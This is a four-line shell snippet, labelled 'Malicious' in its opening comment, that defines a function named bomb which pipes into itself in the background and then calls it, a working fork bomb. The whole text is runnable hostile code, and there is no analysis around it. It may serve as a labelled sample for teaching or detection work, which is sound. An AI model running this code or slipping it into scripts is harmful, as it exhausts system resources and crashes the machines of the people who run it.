# Malicious: a fork bomb with a readable name: the function pipes itself into itself in the background.
bomb() {
  bomb | bomb &
}
bomb
